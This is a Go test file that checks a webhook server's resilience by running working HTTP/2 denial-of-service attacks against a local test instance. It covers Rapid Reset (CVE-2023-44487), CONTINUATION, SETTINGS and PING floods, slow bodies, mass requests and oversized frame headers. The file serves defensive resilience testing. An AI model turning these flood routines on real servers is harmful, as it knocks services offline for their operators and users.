package webhook_test

import (
	"bytes"
	"io"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// framer speaks HTTP/2 frame by frame.
type framer struct {
	*http2.Framer
	header []byte // of a POST to /convert
}

// http2Attack runs attackers who send what send sends, over and over. Answers of the server
// are read, or not.
func http2Attack(n int, read bool, send func(f *framer, stream uint32) error) func(*testing.T, *victim, <-chan struct{}) {
	return func(t *testing.T, v *victim, until <-chan struct{}) {
		var sent atomic.Int64
		v.more.Add(1) // until something is sent
		crowd(n, until, func(int) {
			conn, err := v.tryDial("h2")
			if err != nil {
				return
			}
			closed := make(chan struct{})
			defer func() { closeHard(conn); <-closed }()
			go func() { // a Write that waits for the server is cut off too
				select {
				case <-until:
					closeHard(conn)
				case <-closed:
				}
			}()
			go func() {
				defer close(closed)
				if read {
					_, _ = io.Copy(io.Discard, conn)
					return
				}
				<-until
			}()
			if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
				return
			}
			// A buffer of frames a record: the attack is cheap for the attacker.
			var frames bytes.Buffer
			f := &framer{Framer: http2.NewFramer(&frames, nil), header: requestHeader()}
			_ = f.WriteSettings()
			for stream := uint32(1); ; stream += 2 {
				if err := send(f, stream); err != nil {
					t.Error(err)
					return
				}
				if frames.Len() < 8<<10 {
					continue
				}
				if _, err := frames.WriteTo(conn); err != nil {
					return // the server has had enough
				}
				if sent.Add(1) == 1 {
					v.more.Add(-1)
				}
				select {
				case <-until:
					return
				default:
				}
			}
		})
		if sent.Load() == 0 {
			t.Error("nothing was sent: this attack shows nothing")
		}
	}
}

func requestHeader() []byte {
	var b bytes.Buffer
	enc := hpack.NewEncoder(&b)
	for _, field := range []hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: "localhost"}, {Name: ":path", Value: "/convert"},
		{Name: "content-type", Value: "application/json"},
	} {
		_ = enc.WriteField(field)
	}
	return b.Bytes()
}

// CVE-2023-44487.
func TestAttack_HTTP2RapidResets(t *testing.T) {
	attack(t, 192*megabytes, http2Attack(8, true, func(f *framer, stream uint32) error {
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: f.header, EndHeaders: true}); err != nil {
			return err
		}
		return f.WriteRSTStream(stream, http2.ErrCodeCancel)
	}))
}

// CVE-2023-45288.
func TestAttack_HTTP2ContinuationFlood(t *testing.T) {
	fragment := bytes.Repeat([]byte("\x00\x01x\x01y"), 3000) // literal fields, not indexed
	attack(t, 192*megabytes, http2Attack(8, true, func(f *framer, stream uint32) error {
		if stream == 1 {
			if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.header}); err != nil {
				return err
			}
		}
		return f.WriteContinuation(1, false, fragment)
	}))
}

// CVE-2019-9515.
func TestAttack_HTTP2SettingsFlood(t *testing.T) {
	for name, read := range map[string]bool{"the answers are read": true, "the answers are not read": false} {
		t.Run(name, func(t *testing.T) {
			attack(t, 192*megabytes, http2Attack(8, read, func(f *framer, _ uint32) error { return f.WriteSettings() }))
		})
	}
}

// CVE-2019-9512.
func TestAttack_HTTP2PingFlood(t *testing.T) {
	for name, read := range map[string]bool{"the answers are read": true, "the answers are not read": false} {
		t.Run(name, func(t *testing.T) {
			attack(t, 192*megabytes, http2Attack(8, read, func(f *framer, stream uint32) error {
				return f.WritePing(false, [8]byte{byte(stream), byte(stream >> 8)})
			}))
		})
	}
}

// Many requests on few connections, each of which promises a body.
func TestAttack_HTTP2SlowBodies(t *testing.T) {
	attack(t, 256*megabytes, func(t *testing.T, v *victim, until <-chan struct{}) {
		crowd(40, until, func(int) {
			conn, err := v.tryDial("h2")
			if err != nil {
				return
			}
			var frames bytes.Buffer
			frames.WriteString(http2.ClientPreface)
			f := http2.NewFramer(&frames, nil)
			_ = f.WriteSettings()
			for stream := uint32(1); stream < 200; stream += 2 {
				_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: requestHeader(), EndHeaders: true})
				_ = f.WriteData(stream, false, []byte(strings.Repeat(" ", 100)))
			}
			if _, err := frames.WriteTo(conn); err != nil {
				closeHard(conn)
				return
			}
			hold(conn, until)
		})
	})
}

// Many requests that cost the attacker next to nothing: a body is promised, or a large
// header is sent and no answer taken.
func TestAttack_HTTP2ManyRequests(t *testing.T) {
	var large bytes.Buffer
	enc := hpack.NewEncoder(&large)
	for range 3 {
		_ = enc.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("~", 4000), Sensitive: true})
	}
	for name, c := range map[string]struct {
		header   []byte
		end      bool
		settings []http2.Setting
	}{
		"silent":        {header: requestHeader()},
		"large headers": {append(requestHeader(), large.Bytes()...), true, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}},
	} {
		t.Run(name, func(t *testing.T) {
			attack(t, 320*megabytes, func(t *testing.T, v *victim, until <-chan struct{}) {
				crowd(60, until, func(int) {
					conn, err := v.tryDial("h2")
					if err != nil {
						return
					}
					var frames bytes.Buffer
					frames.WriteString(http2.ClientPreface)
					f := http2.NewFramer(&frames, nil)
					_ = f.WriteSettings(c.settings...)
					for stream := uint32(1); stream < 200; stream += 2 {
						_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: c.header, EndStream: c.end, EndHeaders: true})
					}
					if _, err := frames.WriteTo(conn); err != nil {
						closeHard(conn)
						return
					}
					hold(conn, until)
					tick(200*time.Millisecond, until) // the machine is shared with the server
				})
			})
		})
	}
}

// The length of a frame is all that is sent of it.
func TestAttack_HTTP2LargeFrames(t *testing.T) {
	attack(t, 128*megabytes, func(t *testing.T, v *victim, until <-chan struct{}) {
		crowd(200, until, func(int) {
			conn, err := v.tryDial("h2")
			if err != nil {
				return
			}
			var frames bytes.Buffer
			frames.WriteString(http2.ClientPreface)
			_ = http2.NewFramer(&frames, nil).WriteSettings()
			frames.Write([]byte{0x10, 0, 0, 0, 0, 0, 0, 0, 1}) // DATA of 1 MiB
			_, _ = frames.WriteTo(conn)
			tick(100*time.Millisecond, until)
			hold(conn, until)
		})
	})
}
